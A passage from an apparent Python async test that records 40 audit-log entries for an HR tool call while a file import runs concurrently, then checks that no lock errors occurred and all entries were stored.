        "2026-11-29T03:00:00.000Z", None, "E1001", "get_leave_balance", {}, "ok", "dm", "model"
    )
    try:
        results = await asyncio.gather(
            import_files(db.engine, [people]),
            *(sink.record(entry) for _ in range(40)),
            return_exceptions=True,
        )
        assert [r for r in results if isinstance(r, BaseException)] == []  # nobody was refused a lock
        assert len(await sink.recent("E1001", limit=100)) == 40
    finally:
        await release_test_database(db)
